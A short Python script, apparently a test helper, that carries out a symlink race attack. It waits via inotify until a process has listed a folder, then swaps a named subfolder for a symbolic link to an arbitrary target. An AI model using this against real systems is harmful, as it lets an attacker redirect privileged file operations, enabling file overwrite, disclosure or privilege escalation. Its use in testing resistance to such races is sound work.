"""Attack a stage of a folder: replace one of its subfolders as soon as the folder has been listed.

``python3 swap.py FOLDER NAME TARGET`` waits until a process has listed FOLDER, then puts a symbolic
link to TARGET in the place of FOLDER/NAME.
"""

from __future__ import annotations

import ctypes
import os
import sys

# From linux/inotify.h: somebody closed a file or folder that was open for reading only.
_IN_CLOSE_NOWRITE = 0x10


def main(folder: str, name: str, target: str) -> None:
    """Swap once, and say so."""
    libc = ctypes.CDLL(None, use_errno=True)
    events = libc.inotify_init1(os.O_CLOEXEC)
    if libc.inotify_add_watch(events, os.fsencode(folder), _IN_CLOSE_NOWRITE) < 0:
        raise OSError(ctypes.get_errno(), folder)
    link, away = f"{folder}/{name}", f"{folder}.away"
    os.symlink(target, f"{folder}.link")
    print("ready", flush=True)
    os.read(events, 4096)
    os.rename(link, away)
    os.rename(f"{folder}.link", link)
    print("swapped", flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
